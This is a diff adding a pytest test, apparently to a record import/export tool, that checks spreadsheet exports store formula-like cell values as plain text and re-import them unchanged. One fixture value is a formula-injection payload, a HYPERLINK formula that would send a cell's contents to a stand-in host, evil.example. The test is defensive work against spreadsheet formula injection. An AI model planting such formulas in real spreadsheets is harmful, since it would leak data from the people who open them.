@@ -266,6 +266,26 @@ def test_an_export_with_formulas_imports_as_the_same_arrangements(
     assert import_file(out, settings=register_settings, directory=directory).added == 0
 
 
+def test_a_workbook_export_keeps_formulas_as_text_and_imports_as_the_same_arrangements(
+    register_settings: Settings, directory: Directory, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    source = write(tmp_path, HEADER + project_row(name=name, note="@SUM(1+1)"))
+    import_file(source, settings=register_settings, directory=directory)
+    out = tmp_path / "export.xlsx"
+    export("xlsx", out, settings=register_settings, directory=directory)
+    sheet = load_workbook(out)["Arrangements"]
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value}
+    assert cells[name].data_type == "s" and cells["@SUM(1+1)"].data_type == "s"  # never "f"
+    assert not any(c.data_type == "f" for c in cells.values())
+    fresh = register_settings.with_(database_url=f"sqlite:///{tmp_path / 'fresh.sqlite'}")
+    import_file(out, settings=fresh, directory=directory)
+    again = {r["name"]: r for r in query(settings=fresh, directory=directory)}
+    assert again[name]["note"] == "@SUM(1+1)"
+
+
 def test_the_cli_reports_a_hostile_file_without_a_traceback(
     register_settings: Settings, tmp_path: Path
 ) -> None:
